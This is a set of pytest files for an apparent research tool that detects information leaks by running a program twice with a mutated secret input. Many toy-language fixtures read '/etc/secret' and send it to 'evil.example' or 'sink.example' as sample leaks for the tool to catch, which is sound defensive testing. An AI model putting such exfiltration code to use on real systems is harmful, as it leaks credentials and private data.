      send(s, "hello " + data);
    }
    """
    result = dual(source, world_with_secret(), LdxConfig(SourceSpec(), NET_SINKS))
    assert not result.report.causality_detected
    assert result.report.syscall_diffs == 0
    assert result.report.sinks_total == 1
    assert result.master_stdout == result.slave_stdout


def test_data_dependence_leak_detected():
    # Fig. 1 (a): sink value arithmetically derived from the source.
    source = """
    fn main() {
      var fd = open("/etc/secret", "r");
      var x = parse_int(read(fd, 10));
      close(fd);
      var y = x * 2 + 1;
      var s = socket();
      connect(s, "sink.example", 80);
      send(s, y);
    }
    """
    result = dual(source, world_with_secret("7"), LdxConfig(SECRET_SOURCE, NET_SINKS))
    assert result.report.causality_detected
    kinds = {d.kind for d in result.report.detections}
    assert "sink-args-differ" in kinds


def test_control_dependence_strong_cc_detected():
    # Fig. 1 (b): branch outcome fully determines the sink value.
    source = """
    fn main() {
      var fd = open("/etc/secret", "r");
      var x = parse_int(read(fd, 10));
      close(fd);
      var s = 0;
      if (x == 7) { s = 10; } else { s = 20; }
      var sock = socket();
      connect(sock, "sink.example", 80);
      send(sock, s);
    }
    """
    result = dual(source, world_with_secret("7"), LdxConfig(SECRET_SOURCE, NET_SINKS))
    assert result.report.causality_detected


def test_weak_causality_not_reported():
    # Fig. 1 (c): many source values map to the same sink value; the
    # off-by-one mutation (50 -> 51) keeps the predicate outcome, so no
    # difference reaches the sink — LDX stays silent where
    # control-dependence tainting would (wrongly) report.
    source = """
    fn main() {
      var fd = open("/etc/secret", "r");
      var s = parse_int(read(fd, 10));
      close(fd);
      var x = 0;
      if (s > 0) { x = 1; }
      var sock = socket();
      connect(sock, "sink.example", 80);
      send(sock, x);
    }
    """
    result = dual(source, world_with_secret("50"), LdxConfig(SECRET_SOURCE, NET_SINKS))
    assert not result.report.causality_detected


def test_missing_update_strong_cc_detected():
    # Fig. 1 (d): the *absence* of an update leaks; data+control
    # dependence tracking misses this, counterfactual causality does not.
    source = """
    fn main() {
      var fd = open("/etc/secret", "r");
      var s = parse_int(read(fd, 10));
      close(fd);
      var x = 0;
      if (s == 10) { } else { x = 1; }
      var sock = socket();
      connect(sock, "sink.example", 80);
      send(sock, x);
    }
    """
    result = dual(source, world_with_secret("10"), LdxConfig(SECRET_SOURCE, NET_SINKS))
    assert result.report.causality_detected


def test_path_difference_tolerated_and_realigned():
    # The mutation flips a branch with different syscalls inside; the
    # counter scheme must realign at the join and still compare sinks.
    source = """
    fn main() {
      var fd = open("/etc/secret", "r");
      var x = parse_int(read(fd, 10));
      close(fd);
      if (x == 7) {
        var f = open("/tmp/a.txt", "w");
        write(f, "A");
        close(f);
      } else {
        var g = open("/tmp/b.txt", "w");
        write(g, "B");
        write(g, "B2");
        close(g);
      }
      var sock = socket();
      connect(sock, "sink.example", 80);
      send(sock, "done");
    }
    """
    world = world_with_secret("7")
    world.fs.mkdir("/tmp")
    result = dual(source, world, LdxConfig(SECRET_SOURCE, NET_SINKS))
    # The sink itself does not depend on the secret: no causality.
    assert not result.report.causality_detected
    # But the divergent file syscalls are real syscall differences.
    assert result.report.syscall_diffs > 0
    assert result.report.sinks_total == 1


def test_sink_missing_in_slave_detected():
    # The mutated input suppresses the sink entirely (Algorithm 2 case 1).
    source = """
    fn main() {
      var fd = open("/etc/secret", "r");
      var x = parse_int(read(fd, 10));
      close(fd);
      var sock = socket();
      connect(sock, "sink.example", 80);
      if (x == 7) {
        send(sock, "leak!");
      }
      close(sock);
    }
    """
    result = dual(source, world_with_secret("7"), LdxConfig(SECRET_SOURCE, NET_SINKS))
    assert result.report.causality_detected
    assert any(d.kind == "sink-missing-in-slave" for d in result.report.detections)


def test_sink_only_in_slave_detected():
    source = """
    fn main() {
      var fd = open("/etc/secret", "r");
      var x = parse_int(read(fd, 10));
      close(fd);
      var sock = socket();
      connect(sock, "sink.example", 80);
      if (x != 7) {
        send(sock, "mutant output");
      }
      close(sock);
    }
    """
    result = dual(source, world_with_secret("7"), LdxConfig(SECRET_SOURCE, NET_SINKS))
    assert result.report.causality_detected
    assert any(d.kind == "sink-only-in-slave" for d in result.report.detections)


def test_nondeterministic_outcomes_shared():
    # The slave world is re-seeded, so its own time()/rand() streams
    # differ — outcome sharing must prevent false causality.
    source = """
    fn main() {
      var t = time();
      var r = rand();
      var sock = socket();
      connect(sock, "sink.example", 80);
      send(sock, t + r);
    }
    """
    world = world_with_secret()
    slave_world = world.clone(new_seed=99)
    result = dual(
        source,
        world,
        LdxConfig(SourceSpec(), NET_SINKS),
        slave_world=slave_world,
    )
    assert not result.report.causality_detected


def test_without_sharing_nondet_would_differ():
    # Sanity check of the previous test's premise: the re-seeded world
    # really does produce different rand() values.
    world = World(seed=1)
    reseeded = world.clone(new_seed=99)
    assert world.rng.next_int(1 << 30) != reseeded.rng.next_int(1 << 30)


def test_resource_taint_decouples_later_reads():
    # The slave takes a path that writes a file the master never writes;
    # later both read it.  The slave must see its own content (taint),
    # and the final sink must reflect the difference.
    source = """
    fn main() {
      var fd = open("/etc/secret", "r");
      var x = parse_int(read(fd, 10));
      close(fd);
      var w = open("/work/state.txt", "w");
      if (x == 7) {
        write(w, "master-state");
      } else {
        write(w, "mutant-state");
      }
      close(w);
      var r = open("/work/state.txt", "r");
      var state = read(r, 64);
      close(r);
      var sock = socket();
      connect(sock, "sink.example", 80);
      send(sock, state);
    }
    """
    world = world_with_secret("7")
    world.fs.mkdir("/work")
    result = dual(source, world, LdxConfig(SECRET_SOURCE, NET_SINKS))
    assert result.report.causality_detected
    detection = result.report.detections[-1]
    assert detection.master_args != detection.slave_args
    assert len(result.report.tainted_resources) > 0


def test_mutated_source_count_recorded():
    source = """
    fn main() {
      var fd = open("/etc/secret", "r");
      var a = read(fd, 1);
      var b = read(fd, 1);
      close(fd);
      print(a + b);
    }
    """
    world = world_with_secret("42")
    result = dual(source, world, LdxConfig(SECRET_SOURCE, SinkSpec.file_out()))
    assert result.report.mutated_source_reads == 2


def test_annotated_source_and_sink():
    source = """
    fn main() {
      var secret = source_read("credit-card");
      sink_observe("exfil", secret % 10);
    }
    """
    world = World(seed=1)
    world.sources["credit-card"] = 1234
    config = LdxConfig(
        SourceSpec(labels={"credit-card"}),
        SinkSpec(syscall_names=(), labels={"exfil"}),
    )
    result = dual(source, world, config)
    assert result.report.causality_detected


def test_dual_times_exceed_zero_and_master_close_to_native():
    source = """
    fn main() {
      var total = 0;
      for (var i = 0; i < 50; i = i + 1) { total = total + i; }
      print(total);
    }
    """
    result = dual(source, World(seed=1), LdxConfig(SourceSpec(), SinkSpec.file_out()))
    assert result.dual_time > 0
    assert result.master.time > 0
    assert result.slave.time > 0
