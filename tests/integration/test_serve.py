"""Integration tests for the causality service.

The load-bearing invariant: a verdict served by the daemon is
byte-identical to the batch path (``run_dual`` with the same program,
input, mutation, faults and budget) — admission control, deadlines,
breakers and transports add latency and explicit degradation, never
verdict changes.
"""

import io
import json
import os
import signal
import subprocess
import sys
import threading
import urllib.request

import pytest

from repro.core import config_from_spec, run_dual
from repro.core.supervisor import RunBudget
from repro.serve import (
    HttpTransport,
    LdxService,
    ServeConfig,
    StdioTransport,
    api,
)
from repro.serve.service import _world_from_spec
from repro.workloads import get_workload

LOOPER = """
fn main() {
  var i = 0;
  var sum = 0;
  while (i < 1000000) {
    sum = sum + i;
    i = i + 1;
  }
  var fd = open("/etc/secret", "r");
  var secret = read(fd, 16);
  var sock = socket();
  connect(sock, "evil.example", 80);
  send(sock, secret);
  return 0;
}
"""

LEAKER = """
fn main() {
  var fd = open("/etc/secret", "r");
  var secret = read(fd, 64);
  var sock = socket();
  connect(sock, "evil.example", 80);
  send(sock, secret);
  return 0;
}
"""


def _service(**overrides) -> LdxService:
    settings = dict(workers=2, log_stream=io.StringIO())
    settings.update(overrides)
    return LdxService(ServeConfig(**settings))


def _source_request(request_id="s1", **overrides):
    payload = {
        "id": request_id,
        "source": LEAKER,
        "world": {
            "files": {"/etc/secret": "hunter2"},
            "endpoints": {"evil.example:80": "ok"},
        },
        "sources": {"files": ["/etc/secret"]},
        "sinks": "network",
    }
    payload.update(overrides)
    return payload


def _canonical(result) -> str:
    return json.dumps(api.verdict_payload(result), sort_keys=True)


# -- verdict identity ----------------------------------------------------------


def test_workload_verdicts_identical_to_batch():
    service = _service().start()
    try:
        for variant, config_of in (
            ("leak", lambda w: w.leak_variant()),
            ("table3", lambda w: w.table3_variant()),
        ):
            response = service.submit_and_wait(
                {"id": variant, "workload": "gzip", "variant": variant},
                timeout=120,
            )
            assert response["status"] == "ok"
            workload = get_workload("gzip")
            batch = run_dual(
                workload.instrumented, workload.build_world(1), config_of(workload)
            )
            assert (
                json.dumps(response["verdict"], sort_keys=True) == _canonical(batch)
            )
    finally:
        assert service.drain(timeout=120)


def test_source_request_verdict_identical_to_batch():
    service = _service().start()
    try:
        response = service.submit_and_wait(_source_request(), timeout=120)
        assert response["status"] == "ok"
        assert response["verdict"]["causality"] is True

        request = api.parse_request(_source_request())
        from repro.cache import instrumented_for

        batch = run_dual(
            instrumented_for(LEAKER),
            _world_from_spec(request.world_spec),
            config_from_spec(request.sources_spec, request.sinks_spec, None),
            **RunBudget.from_deadline(request.deadline).engine_kwargs(),
        )
        assert json.dumps(response["verdict"], sort_keys=True) == _canonical(batch)
    finally:
        assert service.drain(timeout=120)


def test_repeat_requests_hit_the_warm_factory():
    service = _service().start()
    try:
        first = service.submit_and_wait(_source_request("a"), timeout=120)
        second = service.submit_and_wait(_source_request("b"), timeout=120)
        assert first["cache"]["factory"] == "miss"
        assert second["cache"]["factory"] == "hit"
        assert second["verdict"] == first["verdict"]
    finally:
        assert service.drain(timeout=120)


# -- robustness ----------------------------------------------------------------


def test_overload_sheds_explicitly_and_backlog_still_drains():
    # No workers running: the queue fills deterministically.
    service = _service(workers=1, queue_capacity=2, high_watermark=2)
    tickets = [
        service.submit({"id": f"q{i}", "workload": "tnftp", "variant": "leak"})
        for i in range(4)
    ]
    shed = [t for t in tickets if t.done]
    assert len(shed) == 2  # two admitted, two shed immediately
    for ticket in shed:
        assert ticket.response["status"] == api.STATUS_OVERLOADED
        assert ticket.response["reason"]
    # Start and drain: the admitted backlog completes with verdicts.
    service.start()
    assert service.drain(timeout=120)
    for ticket in tickets:
        assert ticket.done
    ok = [t for t in tickets if t.response["status"] == "ok"]
    assert len(ok) == 2


def test_tiny_deadline_degrades_to_partial_never_hangs():
    service = _service().start()
    try:
        response = service.submit_and_wait(
            _source_request("tiny", source=LOOPER, deadline=10.0), timeout=120
        )
        assert response is not None, "tiny-deadline request hung"
        assert response["status"] == "ok"
        degradation = response["degradation"]
        assert degradation["confidence"] == "partial"
        assert degradation["budget_exhausted"]
        # The diagnosis is in the verdict too: both sides were cut off.
        assert any(
            "instruction budget exceeded" in crash[1]
            for crash in response["verdict"]["crashes"]
        )
    finally:
        assert service.drain(timeout=120)


def test_breaker_opens_after_repeated_engine_failures_and_recovers(monkeypatch):
    from repro.serve.breaker import BreakerBoard

    class FakeClock:
        now = 0.0

        def __call__(self):
            return self.now

    clock = FakeClock()
    service = _service(breaker_threshold=2).start()
    service.breakers = BreakerBoard(threshold=2, cooldown=30.0, clock=clock)
    try:
        original = LdxService._factory_for
        state = {"explode": True}

        def flaky(self, request):
            if state["explode"]:
                raise RuntimeError("synthetic engine failure")
            return original(self, request)

        monkeypatch.setattr(LdxService, "_factory_for", flaky)
        payload = {"id": "x", "workload": "gzip", "variant": "leak"}
        for index in range(2):
            response = service.submit_and_wait(dict(payload, id=f"x{index}"),
                                               timeout=120)
            assert response["status"] == api.STATUS_ERROR
        # Breaker open: fast-fail without touching the engine.
        response = service.submit_and_wait(dict(payload, id="x2"), timeout=120)
        assert response["status"] == api.STATUS_UNAVAILABLE
        assert "circuit open" in response["reason"]
        # After the cooldown the next request is the half-open probe;
        # the engine is healthy again, so the breaker closes.
        state["explode"] = False
        clock.now = 31.0
        response = service.submit_and_wait(dict(payload, id="x3"), timeout=120)
        assert response["status"] == "ok"
        response = service.submit_and_wait(dict(payload, id="x4"), timeout=120)
        assert response["status"] == "ok"
    finally:
        assert service.drain(timeout=120)


def test_drain_stops_admission_and_joins_workers():
    service = _service().start()
    response = service.submit_and_wait(
        {"id": "a", "workload": "tnftp", "variant": "leak"}, timeout=120
    )
    assert response["status"] == "ok"
    service.begin_drain()
    late = service.submit({"id": "late", "workload": "tnftp", "variant": "leak"})
    assert late.done
    assert late.response["status"] == api.STATUS_OVERLOADED
    assert "draining" in late.response["reason"]
    assert service.drain(timeout=120)
    assert not service.alive()
    assert not service.ready()


# -- transports ----------------------------------------------------------------


def test_stdio_transport_roundtrip_in_request_order():
    lines = [
        json.dumps({"id": "a", "workload": "gzip", "variant": "leak"}),
        "not json at all",
        json.dumps({"id": "c", "workload": "gzip", "variant": "leak"}),
    ]
    out = io.StringIO()
    transport = StdioTransport(
        _service(), in_stream=io.StringIO("\n".join(lines) + "\n"), out_stream=out
    )
    assert transport.serve_forever(handle_signals=False) == 0
    responses = [json.loads(line) for line in out.getvalue().splitlines()]
    assert [r["id"] for r in responses] == ["a", None, "c"]
    assert responses[0]["status"] == "ok"
    assert responses[1]["status"] == api.STATUS_INVALID
    assert responses[2]["verdict"] == responses[0]["verdict"]


def test_http_transport_roundtrip_and_probes():
    service = _service()
    transport = HttpTransport(service, port=0)
    thread = threading.Thread(
        target=transport.serve_forever,
        kwargs={"handle_signals": False, "announce_stream": io.StringIO()},
        daemon=True,
    )
    thread.start()
    base = f"http://127.0.0.1:{transport.port}"
    try:
        with urllib.request.urlopen(base + "/healthz", timeout=10) as reply:
            assert json.loads(reply.read())["alive"] is True
        with urllib.request.urlopen(base + "/readyz", timeout=10) as reply:
            assert json.loads(reply.read())["ready"] is True
        request = urllib.request.Request(
            base + "/v1/infer",
            data=json.dumps(
                {"id": "h", "workload": "gzip", "variant": "leak"}
            ).encode(),
        )
        with urllib.request.urlopen(request, timeout=120) as reply:
            assert reply.status == 200
            payload = json.loads(reply.read())
        assert payload["status"] == "ok"
        assert payload["verdict"]["causality"] is True
        # Invalid request → HTTP 400 with a diagnosis.
        bad = urllib.request.Request(base + "/v1/infer", data=b"{nope")
        with pytest.raises(urllib.error.HTTPError) as failure:
            urllib.request.urlopen(bad, timeout=30)
        assert failure.value.code == 400
        assert json.loads(failure.value.read())["status"] == api.STATUS_INVALID
        with urllib.request.urlopen(base + "/statz", timeout=10) as reply:
            stats = json.loads(reply.read())
        # The invalid request was rejected at admission, not served.
        assert stats["served"] == 1
        assert stats["errors"] == 0
    finally:
        transport.request_stop()
        thread.join(timeout=60)
        assert not thread.is_alive()
        assert not service.alive()  # drained


def test_sigterm_drains_stdio_daemon_to_exit_zero(tmp_path):
    env = dict(os.environ)
    env["PYTHONPATH"] = os.path.join(os.path.dirname(__file__), "..", "..", "src")
    process = subprocess.Popen(
        [sys.executable, "-m", "repro", "serve", "--workers", "1"],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        env=env,
        text=True,
        cwd=str(tmp_path),
    )
    try:
        process.stdin.write(
            json.dumps({"id": "a", "workload": "tnftp", "variant": "leak"}) + "\n"
        )
        process.stdin.flush()
        response = json.loads(process.stdout.readline())
        assert response["status"] == "ok"
        process.send_signal(signal.SIGTERM)
        assert process.wait(timeout=120) == 0
    finally:
        if process.poll() is None:
            process.kill()
