"""Advanced engine scenarios: counter scopes, crashes, decoupling."""

import pytest

from repro.core import LdxConfig, SinkSpec, SourceSpec, run_dual
from repro.instrument import instrument_module
from repro.ir import compile_source
from repro.vos.world import World


def dual(source, world, config, **kwargs):
    return run_dual(instrument_module(compile_source(source)), world, config, **kwargs)


def secret_world(value):
    world = World(seed=1)
    world.fs.add_file("/secret", value)
    world.network.register("sink", 1, lambda req: "")
    return world


CONFIG = LdxConfig(SourceSpec(file_paths={"/secret"}), SinkSpec.network_out())


def test_recursion_depth_divergence_realigns():
    # The mutation changes the recursion depth; syscalls inside the
    # recursive activations use counter scopes (Section 6) and the
    # executions realign at the final sink.
    source = """
    fn walk(n) {
      if (n <= 0) { return 0; }
      print("step " + n);
      return 1 + walk(n - 1);
    }
    fn main() {
      var fd = open("/secret", "r");
      var depth = parse_int(read(fd, 4));
      close(fd);
      var total = walk(depth);
      var s = socket();
      connect(s, "sink", 1);
      send(s, total);
    }
    """
    result = dual(source, secret_world("3"), CONFIG)
    # depth 3 -> 4: the sink value changes and one extra scoped print
    # appears only in the slave.
    assert result.report.causality_detected
    assert result.report.syscall_diffs >= 1
    assert result.report.stall_breaks == 0
    assert result.master.stats.max_stack_depth >= 2


def test_indirect_call_divergence_scoped():
    # The mutated input selects a different handler through a function
    # pointer; alignment inside uses a fresh scope and recovers after.
    source = """
    fn quiet(x) { return x; }
    fn chatty(x) { print("log1"); print("log2"); return x * 2; }
    fn main() {
      var fd = open("/secret", "r");
      var mode = parse_int(read(fd, 4));
      close(fd);
      var handlers = [quiet, chatty];
      var h = handlers[mode % 2];
      var v = h(21);
      var s = socket();
      connect(s, "sink", 1);
      send(s, "done");
      send(s, v);
    }
    """
    result = dual(source, secret_world("0"), CONFIG)
    assert result.report.causality_detected  # v differs (21 vs 42)
    # The slave-only prints inside the indirect call are differences.
    assert result.report.syscall_diffs >= 1
    # 'done' still aligns cleanly after the divergence.
    args_differ = [d for d in result.report.detections if d.kind == "sink-args-differ"]
    assert all(d.master_args != d.slave_args for d in args_differ)


def test_slave_crash_is_contained_and_reported():
    # The mutation drives the slave into a division by zero; the engine
    # treats it as a crash of that execution, not a failure of LDX.
    source = """
    fn main() {
      var fd = open("/secret", "r");
      var x = parse_int(read(fd, 4));
      close(fd);
      var y = 100 / (x - 3);
      var s = socket();
      connect(s, "sink", 1);
      send(s, y);
    }
    """
    result = dual(source, secret_world("2"), CONFIG)  # slave sees 3 -> /0
    assert any(role == "slave" for role, _ in result.report.crashes)
    assert result.master.finished and result.slave.finished
    # The sink never happens in the slave: causality (the crash itself
    # is input-dependent behaviour).
    assert result.report.causality_detected


def test_env_variable_source():
    source = """
    fn main() {
      var region = getenv("REGION");
      var s = socket();
      connect(s, "sink", 1);
      send(s, "deployed to " + region);
    }
    """
    world = secret_world("0")
    world.env["REGION"] = "eu1"
    config = LdxConfig(SourceSpec(env_names={"REGION"}), SinkSpec.network_out())
    result = dual(source, world, config)
    assert result.report.causality_detected


def test_network_source_mutation():
    source = """
    fn main() {
      var s = socket();
      connect(s, "feed", 9);
      send(s, "subscribe");
      var quote = recv(s, 32);
      close(s);
      var out = socket();
      connect(out, "sink", 1);
      send(out, "price " + quote);
    }
    """
    world = secret_world("0")
    world.network.register("feed", 9, lambda req: "101")
    config = LdxConfig(SourceSpec(network={"feed:9"}), SinkSpec.network_out())
    result = dual(source, world, config)
    assert result.report.causality_detected


def test_malloc_parameter_sink():
    source = """
    fn main() {
      var fd = open("/secret", "r");
      var n = parse_int(read(fd, 8));
      close(fd);
      var buf = malloc(n * 16);
      free(buf);
    }
    """
    config = LdxConfig(
        SourceSpec(file_paths={"/secret"}), SinkSpec.attack_detection()
    )
    result = dual(source, secret_world("64"), config)
    assert result.report.causality_detected
    assert any(d.syscall == "malloc" for d in result.report.detections)


def test_exit_divergence_detected_via_missing_sinks():
    source = """
    fn main() {
      var fd = open("/secret", "r");
      var code = parse_int(read(fd, 4));
      close(fd);
      if (code == 1) { exit(1); }
      var s = socket();
      connect(s, "sink", 1);
      send(s, "survived");
    }
    """
    result = dual(source, secret_world("0"), CONFIG)  # slave sees 1 -> exits
    assert result.report.causality_detected
    assert any(
        d.kind == "sink-missing-in-slave" for d in result.report.detections
    )


def test_source_read_on_untainted_resource_shares_nondet():
    # time() outcomes must be identical across the pair even though the
    # slave's world is re-seeded (outcome sharing).
    source = """
    fn main() {
      var stamps = [];
      for (var i = 0; i < 5; i = i + 1) {
        push(stamps, time());
      }
      var s = socket();
      connect(s, "sink", 1);
      send(s, str_join(stamps, ","));
    }
    """
    world = secret_world("0")
    result = dual(
        source,
        world,
        LdxConfig(SourceSpec(), SinkSpec.network_out()),
        slave_world=world.clone(new_seed=1234),
    )
    assert not result.report.causality_detected


def test_deeply_nested_loops_with_divergent_bounds():
    source = """
    fn main() {
      var fd = open("/secret", "r");
      var n = parse_int(read(fd, 4));
      close(fd);
      var total = 0;
      for (var i = 0; i < n; i = i + 1) {
        for (var j = 0; j < 2; j = j + 1) {
          for (var k = 0; k < 2; k = k + 1) {
            print(i + "" + j + "" + k);
            total = total + 1;
          }
        }
      }
      var s = socket();
      connect(s, "sink", 1);
      send(s, total);
    }
    """
    result = dual(source, secret_world("2"), CONFIG)  # slave: n=3
    assert result.report.causality_detected
    assert result.report.stall_breaks == 0
    assert result.master.finished and result.slave.finished
