"""Interrupt safety of store-backed runs, end to end.

The contract under test: every cell that finished before a SIGINT is
already persisted in the results store (run_cells streams results and
persists each one as it arrives), so the re-run reuses all of them and
the final report is byte-identical to an uninterrupted run.

The run under test is a real ``repro eval`` subprocess — the signal
lands on the CLI exactly as a user's Ctrl-C would.
"""

import os
import signal
import sqlite3
import subprocess
import sys
import time

import pytest

SRC = os.path.join(
    os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__)))),
    "src",
)

TABLE4_RUNS = 120  # enough cells that a mid-run SIGINT leaves work undone
START_TIMEOUT = 60.0  # seconds to wait for the first persisted cells
MIN_CELLS_BEFORE_SIGINT = 5


def _eval_command(store_path):
    return [
        sys.executable, "-m", "repro", "eval",
        "--table4-runs", str(TABLE4_RUNS),
        "--jobs", "2",
        "--store-path", store_path,
    ]


def _env():
    env = dict(os.environ)
    existing = env.get("PYTHONPATH")
    env["PYTHONPATH"] = SRC if not existing else SRC + os.pathsep + existing
    return env


def _cell_count(store_path):
    """Count persisted cells without disturbing the writer."""
    try:
        conn = sqlite3.connect(f"file:{store_path}?mode=ro", uri=True)
    except sqlite3.OperationalError:
        return 0
    try:
        return conn.execute("SELECT COUNT(*) FROM cells").fetchone()[0]
    except sqlite3.OperationalError:
        return 0  # schema not committed yet
    finally:
        conn.close()


def _run(store_path, cwd):
    return subprocess.run(
        _eval_command(store_path), cwd=cwd, env=_env(),
        capture_output=True, text=True, timeout=300,
    )


def test_sigint_mid_eval_persists_cells_and_resumes_byte_identical(tmp_path):
    interrupted_store = str(tmp_path / "interrupted.sqlite")

    # -- interrupt a run once a few cells are persisted -----------------------
    proc = subprocess.Popen(
        _eval_command(interrupted_store), cwd=str(tmp_path), env=_env(),
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )
    deadline = time.monotonic() + START_TIMEOUT
    while time.monotonic() < deadline:
        if _cell_count(interrupted_store) >= MIN_CELLS_BEFORE_SIGINT:
            break
        if proc.poll() is not None:
            pytest.fail(
                "eval finished before the interrupt could land; raise "
                f"TABLE4_RUNS (stderr: {proc.stderr.read()[-500:]})"
            )
        time.sleep(0.05)
    else:
        proc.kill()
        pytest.fail("no cells persisted within the startup timeout")
    proc.send_signal(signal.SIGINT)
    stdout, stderr = proc.communicate(timeout=60)

    assert proc.returncode == 130, stderr[-500:]
    assert "interrupted" in stderr
    # run_cells printed the partial accounting before re-raising.
    assert "cells persisted" in stderr
    persisted = _cell_count(interrupted_store)
    assert persisted >= MIN_CELLS_BEFORE_SIGINT

    # -- the re-run reuses every persisted cell -------------------------------
    resumed = _run(interrupted_store, str(tmp_path))
    assert resumed.returncode == 0, resumed.stderr[-500:]
    counts = [
        line for line in resumed.stderr.splitlines()
        if "eval: results store:" in line
    ]
    assert counts, resumed.stderr[-500:]
    # "eval: results store: N executed, M reused of P cells (path)"
    fields = counts[0].split()
    executed, reused, planned = (
        int(fields[3]), int(fields[5]), int(fields[8])
    )
    assert executed + reused == planned
    assert reused >= persisted  # every interrupted-run cell was reused
    assert executed < planned  # ... so not everything re-ran

    # -- byte-identical to an uninterrupted fresh run -------------------------
    fresh = _run(str(tmp_path / "fresh.sqlite"), str(tmp_path))
    assert fresh.returncode == 0, fresh.stderr[-500:]
    assert resumed.stdout == fresh.stdout
