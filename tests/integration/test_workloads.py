"""Every workload must compile, instrument, run natively and behave per
its experiment ground truth (leak/no-leak variants, attack detection)."""

import pytest

from repro.baselines.native import run_native
from repro.core import run_dual
from repro.workloads import ALL_WORKLOADS, get_workload, workloads_by_category

WORKLOAD_NAMES = [w.name for w in ALL_WORKLOADS]


def test_registry_has_28_workloads():
    assert len(ALL_WORKLOADS) == 28
    assert len(workloads_by_category("spec")) == 12
    assert len(workloads_by_category("netsys")) == 5
    assert len(workloads_by_category("vuln")) == 6
    assert len(workloads_by_category("concurrency")) == 5


@pytest.mark.parametrize("name", WORKLOAD_NAMES)
def test_workload_compiles_and_instruments(name):
    workload = get_workload(name)
    assert workload.module.total_instructions > 0
    stats = workload.instrumented.static_stats()
    assert stats["instrumented_sites"] > 0
    assert stats["syscall_sites"] > 0


@pytest.mark.parametrize("name", WORKLOAD_NAMES)
def test_workload_runs_natively(name):
    workload = get_workload(name)
    result = run_native(workload.module, workload.build_world(1))
    assert result.machine.finished
    assert result.stats.syscalls > 0


@pytest.mark.parametrize("name", WORKLOAD_NAMES)
def test_workload_native_is_deterministic(name):
    workload = get_workload(name)
    a = run_native(workload.module, workload.build_world(1), seed=5)
    b = run_native(workload.module, workload.build_world(1), seed=5)
    assert a.stdout == b.stdout
    assert a.sink_values() == b.sink_values()


@pytest.mark.parametrize("name", WORKLOAD_NAMES)
def test_workload_dual_execution_completes(name):
    workload = get_workload(name)
    result = run_dual(
        workload.instrumented, workload.build_world(1), workload.config()
    )
    assert result.master.finished and result.slave.finished
    assert not result.report.crashes


@pytest.mark.parametrize("name", WORKLOAD_NAMES)
def test_workload_leak_variant_detects_causality(name):
    workload = get_workload(name)
    result = run_dual(
        workload.instrumented, workload.build_world(1), workload.leak_variant()
    )
    assert result.report.causality_detected == workload.expected_leak, (
        f"{name}: expected leak={workload.expected_leak}, "
        f"got {result.report.summary()}"
    )
    assert result.report.mutated_source_reads > 0


@pytest.mark.parametrize(
    "name",
    [w.name for w in ALL_WORKLOADS if w.noleak_variant() is not None],
)
def test_workload_noleak_variant_stays_silent(name):
    workload = get_workload(name)
    result = run_dual(
        workload.instrumented, workload.build_world(1), workload.noleak_variant()
    )
    assert not result.report.causality_detected, (
        f"{name}: no-leak mutation wrongly flagged: {result.report.summary()}"
    )


@pytest.mark.parametrize("name", WORKLOAD_NAMES)
def test_coupled_run_without_mutation_is_clean(name):
    workload = get_workload(name)
    config = workload.config()
    config.sources.file_paths = set()
    config.sources.stdin = False
    config.sources.network = set()
    config.sources.env_names = set()
    config.sources.labels = set()
    result = run_dual(workload.instrumented, workload.build_world(1), config)
    assert not result.report.causality_detected, (
        f"{name}: unmutated dual run reported causality: "
        f"{result.report.summary()}"
    )
