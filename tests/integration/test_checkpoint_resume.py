"""Integration tests: world checkpointing and chaos-sweep resume.

The two acceptance invariants of the checkpoint layer:

1. snapshot → restore → continue is invisible — a dual run on a world
   restored from a snapshot produces a result byte-identical to a run
   on the world the snapshot was taken from, for every workload in the
   registry;
2. an interrupted ``repro chaos`` sweep resumed with ``--resume``
   renders a report byte-identical to an uninterrupted sweep.
"""

import pytest

from repro.checkpoint import CheckpointStore
from repro.core import run_dual
from repro.core.supervisor import Checkpointer
from repro.eval.robustness import render_chaos, run_chaos
from repro.workloads import ALL_WORKLOADS, get_workload

WORKLOAD_NAMES = [w.name for w in ALL_WORKLOADS]


def _result_fingerprint(result):
    """Everything observable about a DualResult, as comparable bytes."""
    return (
        result.report.summary(),
        result.degradation.summary(),
        [repr(d) for d in result.report.detections],
        result.master.kernel.stdout,
        result.slave.kernel.stdout,
        result.master.kernel.output_log,
        result.slave.kernel.output_log,
        result.master.kernel.world.fs.paths(),
        result.slave.kernel.world.fs.paths(),
        [repr(d) for d in result.fs_divergences()],
    )


# -- snapshot → restore → continue, every workload -----------------------------


@pytest.mark.parametrize("name", WORKLOAD_NAMES)
def test_restored_world_reproduces_dual_result(name):
    workload = get_workload(name)
    config = workload.leak_variant()

    # The uninterrupted reference run.
    reference = run_dual(workload.instrumented, workload.build_world(1), config)

    # Checkpoint trip: snapshot a fresh world, restore onto another
    # fresh build (the registry re-registers endpoint scripts), run.
    snapshot = workload.build_world(1).snapshot()
    restored = workload.build_world(1).restore(snapshot)
    resumed = run_dual(workload.instrumented, restored, config)

    assert _result_fingerprint(resumed) == _result_fingerprint(reference)


def test_restore_after_mutation_continues_identically():
    """A snapshot taken mid-mutation restores the *mutated* state: two
    worlds that diverge before the snapshot agree after restoring it."""
    workload = get_workload("gzip")

    mutated = workload.build_world(1)
    mutated.fs.add_file("/chk/marker", "pre-checkpoint write")
    mutated.clock.read()
    mutated.rng.next_int(100)
    snapshot = mutated.snapshot()

    restored = workload.build_world(1).restore(snapshot)
    reference = run_dual(workload.instrumented, mutated, workload.leak_variant())
    resumed = run_dual(workload.instrumented, restored, workload.leak_variant())
    assert _result_fingerprint(resumed) == _result_fingerprint(reference)
    assert resumed.slave.kernel.world.fs.read_file("/chk/marker") is not None


# -- the supervisor checkpoints the slave world --------------------------------


def test_engine_failure_checkpoints_slave_world(tmp_path):
    workload = get_workload("gzip")
    store = CheckpointStore(str(tmp_path))
    checkpointer = Checkpointer(store, label="gzip", seed=1)
    from repro.core.engine import LdxEngine

    engine = LdxEngine(
        workload.instrumented,
        workload.build_world(1),
        workload.leak_variant(),
        checkpointer=checkpointer,
    )

    def boom():
        raise RuntimeError("synthetic wreck")

    engine._drive = boom
    result = engine.run()
    assert result.degradation.engine_failures
    (rung, key) = result.degradation.checkpoints[0]
    assert rung.startswith("engine-failure#")
    # The persisted snapshot restores onto a fresh registry world.
    restored = workload.build_world(1).restore(store.load(key))
    assert restored.fs.paths()
    assert "checkpoints" in result.degradation.summary()


